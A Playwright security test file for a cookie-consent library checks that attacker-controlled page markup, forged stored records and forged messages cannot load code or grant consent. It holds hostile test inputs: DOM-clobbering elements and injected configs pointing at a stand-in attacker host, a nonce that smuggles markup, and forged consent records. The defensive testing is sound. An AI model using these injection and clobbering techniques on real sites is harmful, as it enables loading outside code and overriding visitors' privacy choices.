// The security review's findings (issue "Security review findings"), each as a visitor or an
// attacker meets it in Chromium: a stamped page asks again when the config changes, page
// markup cannot choose where code loads from or which config is used, a stored record or a
// message that nothing vouches for grants nothing. "other.example.test" is the attacker's
// origin: a local stand-in answered by the test (there is no internet here).
import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { bannerVisible, launch, openWith, quiet, ready, settleRuns, stored, tagRuns, until } from "./harness.mjs";
import { fingerprint } from "../../boot/logic.mjs";

let env;
before(async () => { env = await launch(); });
after(async () => { await env?.close(); });

const VERSION = readFileSync(new URL("../../site/dist/VERSION", import.meta.url), "utf8").trim();
const ALL_TAGS = ["algolia", "ga", "ga-config", "mixpanel", "reading-list"];
const DAY = 86400000;
const EVIL = "http://other.example.test";

/** Answers every request to the attacker's origin with a script that leaves a mark (and records it). */
async function attacker(context) {
  const asked = [];
  await context.route(`${EVIL}/**`, (route) => {
    asked.push(route.request().url());
    route.fulfill({ contentType: "text/javascript", body: "window.__evil = (window.__evil || 0) + 1; export const firstLayer = () => {};" });
  });
  return asked;
}

/** What window.CookieConsent says: whether a decision stands, and the optional categories it grants. */
const state = (page) =>
  page.evaluate(() => ({
    valid: window.CookieConsent.validConsent(),
    granted: window.CookieConsent.getUserPreferences().acceptedCategories.filter((c) => c !== "necessary"),
  }));

// Each reason the core asks again for, as a change to the demo's config (or to the clock).
// `keeps`: what was granted goes on running while the visitor is asked (the core keeps an
// explicit, current answer when only something new is to be asked about: a category or a
// service added since), or nothing runs (another revision, an expired answer).
const REASONS = {
  "a new revision": { change: (cfg) => (cfg.revision = 2), keeps: false },
  "a new category": {
    change: (cfg) => cfg.categories.push({ id: "social", title: "Social", description: "Share buttons." }),
    keeps: true,
  },
  "a new service": {
    change: (cfg) =>
      (cfg.categories.find((c) => c.id === "third-party").services ||= []).push({
        id: "maps", title: "Maps", provider: "Maps Ltd.", purpose: "Shows a map.", privacy_policy_url: "https://example.com/p",
      }),
    keeps: true,
  },
  "an expired decision": { change: null, keeps: false },
};
// Tags of the new category and the new service (before the change, the gate reports them as
// unknown and never runs them).
const NEW_TAGS =
  '<script type="text/plain" data-category="social">window.lccDemoTag && lccDemoTag("social", "share buttons")</script>' +
  '<script type="text/plain" data-category="third-party" data-service="maps">window.lccDemoTag && lccDemoTag("maps", "a map")</script>';

for (const checked of [true, false]) {
  for (const [reason, { change, keeps }] of Object.entries(REASONS)) {
    test(`${reason} asks again, on a page ${checked ? "stamped by lcc-check" : "without a stamp"}: nothing runs that the visitor did not choose`, async () => {
      let changed = false;
      // (The early banner decides on both pages: stamped, or vouched for by valid.mjs.)
      const v = await openWith(env, {
        checked,
        vouched: !checked,
        patch: (cfg) => changed && change?.(cfg),
        html: (body) => body.replace("</body>", NEW_TAGS + "</body>"),
      });
      const { page, context } = v;
      const requests = [];
      page.on("request", (r) => /\/tags\/(gtag|mixpanel|algolia)-standin\.js$/.test(r.url()) && requests.push(r.url()));
      await page.getByTestId("lcc-accept-all").click();
      assert.deepEqual([...(await settleRuns(page, 5))].sort(), ALL_TAGS);
      // The returning visit under the same config: the boot script alone.
      await page.reload();
      await ready(page);
      assert.equal(await page.evaluate(() => window.__lccBoot), "returning");
      await settleRuns(page, 5);

      changed = true;
      if (!change) await page.clock.setFixedTime(Date.now() + 183 * DAY);
      requests.length = 0;
      await page.reload();
      await page.getByTestId("lcc-banner").waitFor({ state: "visible", timeout: 15000 });
      await quiet(page);
      assert.notEqual(await page.evaluate(() => window.__lccBoot), "returning", "the boot script did not decide alone");
      assert.equal(await page.evaluate(() => window.CookieConsent.validConsent()), false);
      if (keeps) {
        // The UI runs what the standing answer grants; nothing of what is new.
        assert.deepEqual([...(await settleRuns(page, 5))].sort(), ALL_TAGS);
      } else {
        assert.deepEqual(await tagRuns(page), [], "nothing runs under the old answer");
        assert.deepEqual(requests, [], "no tag is even downloaded");
        assert.deepEqual(await state(page), { valid: false, granted: [] });
      }
      // The UI agrees once it is there (Manage loads it), and the new answer is kept.
      await page.getByTestId("lcc-manage").click();
      await page.getByTestId("lcc-preferences").waitFor({ state: "visible", timeout: 15000 });
      assert.equal(await page.evaluate(() => window.CookieConsent.validConsent()), false);
      assert.ok(!(await tagRuns(page)).some((t) => t === "social" || t === "maps"), "nothing new runs before the visitor chooses");
      await page.getByTestId("lcc-prefs-accept-all").click();
      const expected = [...ALL_TAGS, ...(reason === "a new category" ? ["social"] : []), ...(reason === "a new service" ? ["maps"] : [])].sort();
      assert.deepEqual([...new Set(await settleRuns(page, expected.length))].sort(), expected);
      const record = JSON.parse(await stored(page));
      if (reason === "a new revision") assert.equal(record.rev, 2);
      if (reason === "a new category") assert.equal(record.categories.social, true);
      if (reason === "a new service") assert.equal(record.services.maps, true);
      assert.deepEqual(v.errors, []);
      await context.close();
    });
  }
}

/** A page of the attacker's choosing on the test server, at `path`: its HTML is `html`. */
async function page(context, path, html) {
  const p = await context.newPage();
  const errors = [];
  const warnings = [];
  p.on("pageerror", (e) => errors.push(String(e)));
  p.on("console", (m) => m.type() === "warning" && warnings.push(m.text()));
  await p.route((url) => url.pathname === path, (route) => route.fulfill({ contentType: "text/html", body: html }));
  await p.goto(env.server.url + path);
  return { page: p, errors, warnings };
}

const CONFIG = {
  revision: 1,
  categories: [
    { id: "necessary", title: "Strictly necessary", read_only: true },
    { id: "analytics", title: "Analytics", description: "Counts visits." },
    { id: "marketing", title: "Marketing", description: "Offers." },
  ],
};
const MARK = (name) => `<script type="text/plain" data-category="${name}">window.__ran = (window.__ran || []).concat(${JSON.stringify(name)})</script>`;

test("an injected <img name=currentScript> does not choose where the boot script loads code from", async () => {
  const context = await env.browser.newContext();
  const asked = await attacker(context);
  const { page: p, errors } = await page(context, "/sec/clobber.html", `<!doctype html><html lang=en><head>
    <img name="currentScript" src="${EVIL}/evil/x.png">
    <script type="application/json" id="cc-config">${JSON.stringify(CONFIG)}</script>
    <script src="/dist/leptos-consent-boot.js"></script>
    </head><body><p>An article.</p><a href="#" data-cc="show-preferencesModal" data-testid="settings">Cookie settings</a></body></html>`);
  await p.getByTestId("lcc-banner").waitFor({ state: "visible", timeout: 15000 });
  // "Cookie settings" loads the UI: from the distribution's own folder too.
  await p.getByTestId("settings").click();
  await p.getByTestId("lcc-preferences").waitFor({ state: "visible", timeout: 15000 });
  assert.deepEqual(asked.filter((u) => !u.endsWith("/evil/x.png")), [], "nothing but the image is asked of the other origin");
  assert.equal(await p.evaluate(() => window.__evil), undefined);
  assert.deepEqual(errors, []);
  await context.close();
});

/** The first-layer hint, as the README has it. */
const HINT = readFileSync(new URL("../../boot/hint.html", import.meta.url), "utf8").trim();
const BOOT_TAG = '<script defer src="/dist/leptos-consent-boot.js"></script>';
/** An article with two gated marks. */
const ARTICLE = `<p>An article.</p>${MARK("analytics")}${MARK("marketing")}`;

/**
 * A page with the README's snippet (CONFIG, the boot script's tag `tag`, the hint) after
 * `head`, and `body`; `cfgAttrs` go on the config element.
 */
const deferredPage = (head, body, tag = BOOT_TAG, cfgAttrs = "") => `<!doctype html><html lang=en><head>${head}
    <script type="application/json" id="cc-config"${cfgAttrs}>${JSON.stringify(CONFIG)}</script>
    ${tag}
    ${HINT}
    </head><body>${body}</body></html>`;

test("named elements standing in for the hint's currentScript and the boot script's tag: the hint asks nothing of another origin", async () => {
  const context = await env.browser.newContext();
  const asked = await attacker(context);
  const { page: p, errors } = await page(
    context,
    "/sec/clobber-hint.html",
    deferredPage(`<form name="currentScript"><input type="image" name="previousElementSibling" src="${EVIL}/x/leptos-consent-boot.js"></form>`, "<p>An article.</p>"),
  );
  await p.getByTestId("lcc-banner").waitFor({ state: "visible", timeout: 15000 });
  assert.deepEqual(asked.filter((u) => !u.endsWith("/x/leptos-consent-boot.js")), [], "only the injected image itself");
  assert.equal(await p.evaluate(() => window.__evil), undefined);
  assert.deepEqual(errors, []);
  await context.close();
});

/** The visitor accepts all on `html` at `path`, then comes back: the returning page view. */
async function returningOn(context, path, html) {
  const v = await page(context, path, html);
  await v.page.getByTestId("lcc-accept-all").click();
  await v.page.waitForFunction(() => (window.__ran || []).length === 2);
  await v.page.reload();
  await v.page.waitForFunction(() => (window.__ran || []).length === 2);
  return v;
}

for (const async of [true, false])
  test(`the README's snippet added by a script while the page loads (as a tag manager does${async ? "" : ", async = false"}): the hint writes nothing in, the page stays whole`, async () => {
    const context = await env.browser.newContext();
    const hint = /^<script>(.*)<\/script>$/s.exec(HINT)[1];
    // The page's own script, still downloading when the snippet goes in: the page is still loading.
    await context.route("**/sec/slow.js", async (route) => {
      await new Promise((r) => setTimeout(r, 500));
      await route.fulfill({ contentType: "text/javascript", body: "window.__slow = 1" });
    });
    const html = `<!doctype html><html lang=en><head><script>
      setTimeout(() => {
        const add = (props) => document.head.append(Object.assign(document.createElement("script"), props));
        add({ type: "application/json", id: "cc-config", text: ${JSON.stringify(JSON.stringify(CONFIG))} });
        add({ defer: true, src: "/dist/leptos-consent-boot.js", async: ${async} });
        add({ text: ${JSON.stringify(hint)}, async: ${async} });
        window.__added = document.readyState;
      });
      </script></head><body><p id="before">An article.</p><script src="/sec/slow.js"></script><p id="after">Its end.</p>${ARTICLE}</body></html>`;
    const { page: p, errors } = await returningOn(context, "/sec/injected-snippet.html", html);
    assert.equal(await p.evaluate(() => window.__added), "loading", "the snippet went in while the page loaded");
    // A write from there would have replaced the whole document (no parser to write into).
    assert.deepEqual(await p.evaluate(() => [!!document.getElementById("before"), !!document.getElementById("after"), window.__slow]), [true, true, 1]);
    assert.equal(await p.locator('script[src$="leptos-consent-boot.js"]').count(), 1);
    assert.deepEqual((await p.evaluate(() => window.__ran)).sort(), ["analytics", "marketing"]);
    assert.deepEqual(errors, []);
    await context.close();
  });

test("a boot script tag whose nonce holds markup: the hint writes nothing in, and nothing of it is parsed", async () => {
  const context = await env.browser.newContext();
  const asked = await attacker(context);
  const nonce = `n"></script><img src="${EVIL}/nonce.png">`;
  const html = deferredPage("", ARTICLE.replaceAll("<script", `<script nonce='${nonce}'`), BOOT_TAG.replace("<script", `<script nonce='${nonce}'`), ` nonce='${nonce}'`);
  const { page: p, errors } = await returningOn(context, "/sec/nonce-markup.html", html);
  assert.equal(await p.locator('script[src$="leptos-consent-boot.js"]').count(), 1, "the deferred tag alone");
  assert.deepEqual(asked, []);
  assert.deepEqual(errors, []);
  await context.close();
});

// Each attribute a copy would have to repeat exactly (or, without defer, a boot script that has
// already run): the hint writes nothing, and the tags still run.
const SRI = "sha384-" + createHash("sha384").update(readFileSync(new URL("../../site/dist/leptos-consent-boot.js", import.meta.url))).digest("base64");
for (const [what, tag] of [
  ["integrity", `<script defer src="/dist/leptos-consent-boot.js" integrity="${SRI}"></script>`],
  ["crossorigin", '<script defer src="/dist/leptos-consent-boot.js" crossorigin="anonymous"></script>'],
  ["referrerpolicy", '<script defer src="/dist/leptos-consent-boot.js" referrerpolicy="no-referrer"></script>'],
  ["no defer", '<script src="/dist/leptos-consent-boot.js"></script>'],
])
  test(`a boot script tag with ${what}, then the hint: the hint writes nothing in, and the tags still run`, async () => {
    const context = await env.browser.newContext();
    const { page: p, errors } = await returningOn(context, `/sec/boot-${what.replace(" ", "-")}.html`, deferredPage("", ARTICLE, tag));
    assert.equal(await p.locator('script[src$="leptos-consent-boot.js"]').count(), 1, "the page's own tag alone");
    assert.deepEqual(errors, []);
    await context.close();
  });

test("deferred, the boot script takes the config written before its tag, not one injected into the body", async () => {
  const context = await env.browser.newContext();
  const html = (body) => deferredPage("", body + ARTICLE);
  const injected = `<script type="application/json" id="cc-config">${JSON.stringify({ ...CONFIG, revision: 7, categories: CONFIG.categories.slice(0, 2) })}</script>`;
  const { page: p, errors } = await page(context, "/sec/late-config.html", html(injected));
  await p.getByTestId("lcc-banner").waitFor({ state: "visible", timeout: 15000 });
  await p.getByTestId("lcc-accept-all").click();
  await p.waitForFunction(() => (window.__ran || []).length === 2);
  // The page's config was decided on (its revision and its three categories), and on the next
  // page view its answer stands with the injection still there.
  const record = JSON.parse(await stored(p));
  assert.equal(record.rev, 1);
  assert.deepEqual(Object.keys(record.categories).sort(), ["analytics", "marketing", "necessary"]);
  await p.reload();
  await p.waitForFunction(() => (window.__ran || []).length === 2);
  assert.deepEqual((await p.evaluate(() => window.__ran)).sort(), ["analytics", "marketing"]);
  assert.deepEqual(errors, []);
  await context.close();
});

test("an <img name=body> in the page: the banner is in the real body and the visitor can decide", async () => {
  const context = await env.browser.newContext();
  const { page: p, errors } = await page(context, "/sec/body.html", `<!doctype html><html lang=en><head>
    <script type="application/json" id="cc-config">${JSON.stringify(CONFIG)}</script>
    <script src="/dist/leptos-consent-boot.js"></script>${MARK("analytics")}
    </head><body><img name="body" alt=""><img name="head" alt=""><img name="documentElement" alt="">
    <p>An article.</p><a href="#" data-cc="show-preferencesModal" data-testid="settings">Cookie settings</a></body></html>`);
  await p.getByTestId("lcc-banner").waitFor({ state: "visible", timeout: 15000 });
  assert.equal(await p.evaluate(() => document.getElementById("lcc-boot").parentElement.tagName), "BODY");
  await p.getByTestId("lcc-accept-all").click();
  await p.waitForFunction(() => window.CookieConsent.validConsent());
  await p.waitForFunction(() => (window.__ran || []).includes("analytics"));
  // The UI too: its root goes in the real body.
  await p.getByTestId("settings").click();
  await p.getByTestId("lcc-preferences").waitFor({ state: "visible", timeout: 15000 });
  assert.equal(await p.evaluate(() => document.getElementById("lcc-root").parentElement.tagName), "BODY");
  assert.deepEqual(errors, []);
  await context.close();
});

test("a config that comes late: an injected <div id=cc-config> with a stamp is never taken", async () => {
  const context = await env.browser.newContext();
  const asked = await attacker(context);
  // The attacker's config: everything read-only (so "granted"), and scripts of its own.
  const evil = JSON.stringify({
    revision: 1,
    categories: [
      { id: "necessary", title: "N", read_only: true, services: [{ id: "x", title: "X", provider: "P", purpose: "Q", privacy_policy_url: "/p", scripts: [{ src: "data:text/javascript,window.__evil=1" }, { src: `${EVIL}/x.js` }] }] },
      { id: "analytics", title: "A", read_only: true },
      { id: "marketing", title: "M", read_only: true },
    ],
  });
  const stampOf = (text) => `${VERSION} ${fingerprint(text)}`;
  const html = `<!doctype html><html lang=en><head>
    <script src="/dist/leptos-consent-boot.js"></script>${MARK("analytics")}${MARK("marketing")}
    </head><body><p>A comment: <div id="cc-config" data-checked="${stampOf(evil)}">${evil}</div></p>
    <script>addEventListener("load", () => CookieConsent.run(${JSON.stringify(CONFIG)}))</script></body></html>`;
  const { page: p, errors, warnings } = await page(context, "/sec/late.html", html);
  await p.getByTestId("lcc-banner").waitFor({ state: "visible", timeout: 15000 });
  assert.ok(warnings.some((w) => w.includes("#cc-config ignored")), warnings.join("\n"));
  await p.getByTestId("lcc-reject-all").click();
  await p.waitForFunction(() => window.CookieConsent.validConsent());
  const record = JSON.parse(await p.evaluate(() => localStorage.getItem("lcc_consent")));
  assert.deepEqual(record.categories, { analytics: false, marketing: false, necessary: true });
  // The refusal holds on the next view, where the div comes first again.
  await p.reload();
  await p.waitForFunction(() => window.CookieConsent && window.CookieConsent.validConsent());
  await quiet(p);
  assert.equal(await p.evaluate(() => window.__ran), undefined);
  assert.equal(await p.evaluate(() => window.__evil), undefined);
  assert.deepEqual(asked, []);
  assert.deepEqual(errors, []);
  await context.close();
});

/**
 * Stores `forged` as the decision on the first page view of `context`, with an attestation
 * under the config `text`: whatever wrote storage wrote the attestation too (both are plain
 * localStorage entries).
 */
const seedForged = (context, text, forged) =>
  context.addInitScript(([r, marker]) => {
    if (!sessionStorage.getItem("seeded")) {
      sessionStorage.setItem("seeded", "1");
      localStorage.setItem("lcc_consent", r);
      localStorage.setItem("lcc_consent_config", marker);
    }
  }, [forged, `${fingerprint(text)} ${fingerprint(forged)}`]);

test("a stored record with mistyped fields and a forged attestation: asked again, no error", async () => {
  const context = await env.browser.newContext();
  const text = JSON.stringify(CONFIG);
  const html = `<!doctype html><html lang=en><head>
    <script type="application/json" id="cc-config">${text}</script>
    <script src="/dist/leptos-consent-boot.js"></script>${MARK("analytics")}${MARK("marketing")}
    </head><body><p>An article.</p></body></html>`;
  const forged = JSON.stringify({
    v: 9, id: "0b6d1c43-3f5e-4a8b-9c2d-1e2f3a4b5c6d", first: 1, last: "99", rev: 77,
    categories: { analytics: true, marketing: true, necessary: true }, services: {}, via: "banner",
  });
  await seedForged(context, text, forged);
  const { page: p, errors } = await page(context, "/sec/record.html", html);
  await p.getByTestId("lcc-banner").waitFor({ state: "visible", timeout: 15000 });
  await quiet(p);
  assert.equal(await p.evaluate(() => window.__ran), undefined);
  assert.deepEqual(await state(p), { valid: false, granted: [] });
  assert.equal(await p.evaluate(() => JSON.stringify(window.CookieConsent.getCookie())), "{}");
  assert.deepEqual(errors, []);
  await context.close();
});

// The site's data kept with a record (setCookieData) is JSON text of at most 8 KB, as the core
// checks it: anything else in storage, even attested by a forged marker, is no consent, and
// reading it (getCookie, setCookieData) throws nothing into the page.
for (const [what, data] of [
  ["not JSON", "{"],
  ["over 8 KB", JSON.stringify("x".repeat(9000))],
  ["a lone surrogate", "\ud800"],
]) {
  test(`a stored record whose site data is ${what}, with a forged attestation: asked again, no error`, async () => {
    const context = await env.browser.newContext();
    const text = JSON.stringify(CONFIG);
    const html = `<!doctype html><html lang=en><head>
    <script type="application/json" id="cc-config">${text}</script>
    <script src="/dist/leptos-consent-boot.js"></script>${MARK("analytics")}${MARK("marketing")}
    </head><body><p>An article.</p></body></html>`;
    const now = Date.now();
    const forged = grantAll(now).slice(0, -1) + `,"data":${JSON.stringify(data)}}`;
    await seedForged(context, text, forged);
    const { page: p, errors } = await page(context, `/sec/data-${what.replace(/\W/g, "")}.html`, html);
    await p.getByTestId("lcc-banner").waitFor({ state: "visible", timeout: 15000 });
    assert.equal(await p.evaluate(() => window.__ran), undefined);
    assert.deepEqual(await state(p), { valid: false, granted: [] });
    assert.deepEqual(await p.evaluate(() => [JSON.stringify(window.CookieConsent.getCookie()), window.CookieConsent.setCookieData({ value: 1 })]), ["{}", false]);
    assert.deepEqual(errors, []);
    await context.close();
  });
}

/** A record granting everything under CONFIG, as the UI would write it. */
const grantAll = (now) =>
  JSON.stringify({
    v: 1, id: "0b6d1c43-3f5e-4a8b-9c2d-1e2f3a4b5c6d", first: now, last: now, rev: 1,
    categories: { analytics: true, marketing: true, necessary: true }, services: {}, via: "banner",
  });

test("a message on the BroadcastChannel or a page-dispatched lcc:consent grants nothing: storage says refused", async () => {
  const context = await env.browser.newContext();
  const html = `<!doctype html><html lang=en><head>
    <script type="application/json" id="cc-config">${JSON.stringify(CONFIG)}</script>
    <script src="/dist/leptos-consent-boot.js"></script>${MARK("analytics")}${MARK("marketing")}
    </head><body><p>An article.</p><a href="#" data-cc="show-preferencesModal" data-testid="settings">Cookie settings</a></body></html>`;
  const { page: p, errors } = await page(context, "/sec/channel.html", html);
  await p.getByTestId("lcc-reject-all").click();
  await p.waitForFunction(() => window.CookieConsent.validConsent());
  const forge = (record) =>
    p.evaluate((r) => {
      window.dispatchEvent(new CustomEvent("lcc:consent", { detail: JSON.parse(r) }));
      new BroadcastChannel("lcc:lcc_consent").postMessage(r);
    }, record);
  const refused = { valid: true, granted: [] };
  // Before the UI is there (the early banner decided), then with it.
  await forge(grantAll(Date.now()));
  await quiet(p);
  assert.deepEqual(await state(p), refused);
  await p.getByTestId("settings").click();
  await p.getByTestId("lcc-preferences").waitFor({ state: "visible", timeout: 15000 });
  await p.keyboard.press("Escape");
  await forge(grantAll(Date.now()));
  await quiet(p);
  assert.deepEqual(await state(p), refused);
  assert.equal(await p.evaluate(() => window.__ran), undefined, "no tag ran on the forged message");
  assert.equal(await p.locator("#lcc-cat-marketing").isChecked(), false);
  assert.deepEqual(errors, []);
  await context.close();
});

test("under a nonce, an injected JSON config is never the UI's either: a click before the real config comes loads the UI, which refuses", async () => {
  const context = await env.browser.newContext();
  const asked = await attacker(context);
  const NONCE = "c2VjdXJpdHktcmV2aWV3";
  const evil = JSON.stringify({
    revision: 1,
    categories: [{ id: "necessary", title: "N", read_only: true, services: [{ id: "x", title: "X", provider: "P", purpose: "Q", privacy_policy_url: "/p", scripts: [{ src: `${EVIL}/x.js` }] }] }],
  });
  // The real config comes through run() on load; the injected one (no nonce) is in the body,
  // and the visitor presses "Cookie settings" before load.
  const html = `<!doctype html><html lang=en><head>
    <script nonce="${NONCE}" src="/dist/leptos-consent-boot.js"></script>
    </head><body><p>A comment: <script type="application/json" id="cc-config">${evil}</script></p>
    <a href="#" data-cc="show-preferencesModal" data-testid="settings">Cookie settings</a>
    <script nonce="${NONCE}">addEventListener("load", () => setTimeout(() => (CookieConsent.run(${JSON.stringify(CONFIG)}), (window.__ranConfig = 1)), 2000))</script></body></html>`;
  const p = await context.newPage();
  const warnings = [];
  p.on("console", (m) => m.type() === "warning" && warnings.push(m.text()));
  await p.route((url) => url.pathname === "/sec/nonce.html", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: html,
      headers: { "content-security-policy": `script-src 'nonce-${NONCE}' 'strict-dynamic' 'wasm-unsafe-eval'; object-src 'none'; base-uri 'none'` },
    }));
  await p.goto(env.server.url + "/sec/nonce.html");
  await p.getByTestId("settings").click();
  await p.getByTestId("lcc-unavailable").waitFor({ state: "visible", timeout: 15000 });
  // The page's own run(), two seconds after load, must not take the injected config either.
  await p.waitForFunction(() => window.__ranConfig, null, { timeout: 15000 });
  await quiet(p);
  assert.ok(warnings.some((w) => w.includes("#cc-config ignored: it lacks the boot script's nonce")), warnings.join("\n"));
  assert.equal(await p.evaluate(() => window.__evil), undefined);
  assert.deepEqual(asked, []);
  assert.equal(await p.evaluate(() => window.CookieConsent.acceptedCategory("analytics")), false);
  await context.close();
});

test("an <img name=cookie> in the page: a refusal still erases the refused service's cookies", async () => {
  const v = await openWith(env, { checked: true, html: (body) => body.replace("<body>", '<body><img name="cookie" alt="">') });
  const { page, context } = v;
  await context.addCookies([{ name: "_ga", value: "GA1.1.123", url: env.server.url }]);
  await page.getByTestId("lcc-reject-all").click();
  await page.waitForFunction(() => window.CookieConsent.validConsent());
  await until(async () => !(await context.cookies()).some((c) => c.name === "_ga"), { what: "_ga erased" });
  assert.deepEqual((await context.cookies()).map((c) => c.name).filter((n) => n === "_ga"), []);
  assert.deepEqual(v.errors, []);
  await context.close();
});
